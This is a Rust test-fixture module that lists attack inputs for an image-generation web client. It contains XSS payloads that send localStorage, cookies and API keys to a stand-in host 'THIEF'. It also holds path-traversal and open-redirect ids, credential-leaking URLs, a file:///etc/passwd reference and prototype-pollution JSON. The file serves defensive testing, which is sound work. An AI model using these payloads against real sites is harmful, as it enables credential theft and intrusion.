//! The lists of attacks. `THIEF` stands for host and port of another origin, `SERVICE` for those of the service, and
//! `KEY` for the key.

/// Texts that run as scripts if a page treats them as its own code.
pub(super) const SCRIPTS: [&str; 20] = [
    "<img src=x onerror=\"stolen=1;fetch('//THIEF/ran?'+localStorage['easel.keys'])\">",
    "<script>stolen=1;new Image().src='http://THIEF/ran?'+JSON.stringify(localStorage)</script>",
    "<svg/onload=\"stolen=1;navigator.sendBeacon('http://THIEF/ran',document.cookie)\">",
    "<iframe srcdoc=\"<script>parent.stolen=1;fetch('http://THIEF/ran?'+parent.localStorage.length)</script>\"></iframe>",
    "<iframe src=\"javascript:parent.stolen=1;fetch('http://THIEF/ran')\"></iframe>",
    "<a href=\"javascript:fetch('http://THIEF/ran')\">click</a>",
    "<form action='http://THIEF/ran'><input name=key><button autofocus>Go</button></form>",
    "<input autofocus onfocus=\"stolen=1;fetch('http://THIEF/ran')\">",
    "<details open ontoggle=\"stolen=1;fetch('http://THIEF/ran')\">",
    "<video><source onerror=\"stolen=1;fetch('http://THIEF/ran')\"></video>",
    "<style>input[type=password][value^=a]{background:url(http://THIEF/ran)}</style>",
    "<link rel=stylesheet href='http://THIEF/ran'>",
    "<base href='http://THIEF/ran/'>",
    "<meta http-equiv=refresh content='0;url=http://THIEF/ran'>",
    "<object data='http://THIEF/ran'></object>",
    "\"><img src=http://THIEF/ran>",
    "'-fetch('http://THIEF/ran')-'",
    "{{constructor.constructor('fetch(\"http://THIEF/ran\")')()}}",
    "${fetch('http://THIEF/ran')}",
    "</textarea></script><script src=http://THIEF/ran></script>",
];

/// The statuses of answers that repeat the key.
pub(super) const ECHO_STATUSES: [&str; 10] = [
    "400 Bad Request",
    "401 Unauthorized",
    "403 Forbidden",
    "404 Not Found",
    "409 Conflict",
    "422 Unprocessable Content",
    "429 Too Many Requests",
    "500 Internal Server Error",
    "502 Bad Gateway",
    "200 OK",
];

/// Bodies that repeat the key. `ESCAPED` is the key in the escapes of JSON.
pub(super) const BODIES: [&str; 5] = [
    r#"{"error": {"message": "Incorrect API key: KEY", "type": "KEY", "code": "KEY", "param": "KEY"}}"#,
    r#"{"detail": [{"msg": "Bearer KEY", "loc": ["header", "KEY"]}], "KEY": "KEY"}"#,
    r#"{"message": "{\"inner\": \"ESCAPED\"}"}"#,
    "<html><title>KEY</title><body>Authorization: Bearer KEY</body></html>",
    r#"{"created": 1, "data": [{"url": "KEY", "revised_prompt": "KEY"}], "usage": {"KEY": "KEY"}}"#,
];

/// The statuses of redirects, and the request that follows them.
pub(super) const REDIRECTS: [(&str, &str); 5] = [
    ("301 Moved Permanently", "with GET"),
    ("302 Found", "with GET"),
    ("303 See Other", "with GET"),
    ("307 Temporary Redirect", "with the same request"),
    ("308 Permanent Redirect", "with the same request"),
];

/// Hostile ids of tasks. An id becomes part of an address.
pub(super) const TASK_IDS: [&str; 20] = [
    "http://THIEF/x",
    "//THIEF/x",
    "\\\\THIEF\\x",
    "/\\THIEF/x",
    "@THIEF/x",
    ":80@THIEF/x",
    "../../../../THIEF/x",
    "..",
    ".",
    "%2e%2e%2f%2e%2e%2fx",
    "?to=http://THIEF/x",
    "#http://THIEF/x",
    "x?async=true#",
    "javascript:fetch('http://THIEF/ran')",
    "data:text/html,x",
    "a b\tc",
    "\u{202e}txt.exe",
    "KEY",
    "task-KEY",
    "<img src=http://THIEF/ran>",
];

/// Addresses of results. Addresses below `/401` and `/403`, and all of the service, ask for a key.
pub(super) const MEDIA: [&str; 40] = [
    "http://THIEF/a.png",
    "http://THIEF/a.mp4",
    "http://THIEF/401/a.png",
    "http://THIEF/403/a.png",
    "http://THIEF/401/a.mp4",
    "//THIEF/a.png",
    "http:THIEF/a.png",
    "http:/THIEF/a.png",
    "http:\\\\THIEF\\a.png",
    "\\\\THIEF\\a.png",
    "HTTP://THIEF/a.png",
    " http://THIEF/a.png",
    "http://SERVICE@THIEF/a.png",
    "http://SERVICE:80@THIEF/401/a.png",
    "http://THIEF/http://SERVICE/a.png",
    "http://THIEF/401?http://SERVICE/",
    "http://THIEF/401#http://SERVICE/",
    "http://THIEF\\@SERVICE/a.png",
    "http://SERVICE.THIEF/a.png",
    "http://KEY@THIEF/a.png",
    "http://user:KEY@THIEF/401/a.png",
    "http://THIEF/a.png?key=KEY",
    "http://THIEF/a.png?key=ENCODED",
    "http://THIEF/KEY/a.png",
    "http://THIEF/a.png#KEY",
    "http://SERVICE/media/301.png",
    "http://SERVICE/media/302.png",
    "http://SERVICE/media/303.png",
    "http://SERVICE/media/307.png",
    "http://SERVICE/media/308.png",
    "http://SERVICE/media/301.mp4",
    "http://SERVICE/media/307.mp4",
    "http://SERVICE/media/a.png?key=KEY",
    "/media/a.png",
    "media/a.png",
    "javascript:fetch('http://THIEF/ran')",
    "data:text/html,<script>fetch('http://THIEF/ran')</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(\"http://THIEF/ran\")'/>",
    "blob:http://THIEF/x",
    "file:///etc/passwd",
];

/// Hostile answers to polls.
pub(super) const WORDS: [&str; 8] = [
    r#"{"id": "x", "status": "processing", "poll_url": "http://THIEF/next", "status_url": "http://THIEF/next"}"#,
    r#"{"id": "x", "status": "processing", "urls": {"get": "http://THIEF/next"}, "location": "http://THIEF/next"}"#,
    r#"{"id": "http://THIEF/next", "status": "processing", "response_url": "http://THIEF/next"}"#,
    r#"{"id": "x", "status": "KEY", "progress": "KEY"}"#,
    r#"{"id": "x", "status": "failed", "error": {"message": "KEY", "code": "KEY"}, "logs": ["Bearer KEY"]}"#,
    r#"{"id": "x", "status": "completed", "result": {"type": "image", "data": [{"url": "http://THIEF/401?KEY"}]}}"#,
    r#"{"id": "x", "status": "completed", "account": "KEY", "result": {"type": "KEY", "data": [{"url": "KEY"}]}}"#,
    r#"{"id": "x", "status": "completed", "credits_cost": "KEY", "model": "KEY", "result": {"data": ["KEY"]}}"#,
];

/// Links of other sites to hostile paths of this site.
pub(super) const LINKS: [&str; 26] = [
    "image#form=1&prompt=%3Cimg%20src%3Dhttp%3A%2F%2FTHIEF%2Fran%3E",
    "image#form=1&model=%3Cscript%3Efetch('http%3A%2F%2FTHIEF%2Fran')%3C%2Fscript%3E",
    "image#form=1&base=http%3A%2F%2FTHIEF",
    "image#form=1&baseUrl=http%3A%2F%2FTHIEF&prompt=a",
    "image#form=1&key=other",
    "image#form=1&options=%7B%22api_key%22%3A%22x%22%7D&model=house-1",
    "image#form=2&prompt=a",
    "image#form=1&prompt=%",
    "image#key",
    "image#http://THIEF",
    "image?baseUrl=http%3A%2F%2FTHIEF",
    "image?base_url=http%3A%2F%2FTHIEF&api_key=x",
    "image?config=http%3A%2F%2FTHIEF%2Fconfig.json",
    "image?profiles=http%3A%2F%2FTHIEF%2Fhouse.json",
    "image?url=http%3A%2F%2FTHIEF%2Fa.png&text=%3Cimg%20src%3Dx%3E&title=a",
    "?text=http%3A%2F%2FTHIEF%2F401",
    "edit?url=http%3A%2F%2FTHIEF%2F401%2Fa.png",
    "settings?service=http%3A%2F%2FTHIEF",
    "settings#connect=http://THIEF",
    "check?base=http%3A%2F%2FTHIEF",
    "library?words=%3Cimg%20src%3Dhttp%3A%2F%2FTHIEF%2Fran%3E",
    "tasks/http%3A%2F%2FTHIEF%2Fx",
    "tasks/..%2F..%2F..%2FTHIEF",
    "grids/%3Cimg%20src%3Dhttp%3A%2F%2FTHIEF%2Fran%3E",
    "//THIEF/image",
    "%2F%2FTHIEF/",
];

/// Elements by which another page shows the site.
pub(super) const FRAMES: [&str; 5] = [
    "<iframe src='SITE'></iframe>",
    "<iframe sandbox='allow-scripts allow-same-origin' src='SITE'></iframe>",
    "<iframe allow='*' referrerpolicy=unsafe-url src='SITE'></iframe>",
    "<iframe name=easel credentialless src='SITE'></iframe>",
    "<iframe loading=eager src='SITE#form=1&prompt=a'></iframe>",
];

/// Hostile profiles of models: their texts, their keys, their values.
pub(super) const HOUSE: &str = r#"{"families": [{
    "family": "<img src=x onerror=\"stolen=1\">",
    "match": ["house*", "*"],
    "kinds": ["image"],
    "sizes": ["<script>stolen=1</script>", "1:1"],
    "qualities": ["<svg onload=stolen=1>"],
    "options": [
        {"key": "Authorization", "label": "<img src=x onerror=stolen=1>", "type": "text", "help": "<b onmouseover=stolen=1>"},
        {"key": "__proto__", "label": "a", "type": "text"},
        {"key": "api_key", "label": "b", "type": "choice", "values": ["<img src=x onerror=stolen=1>"], "default": "x"}
    ]
}]}"#;
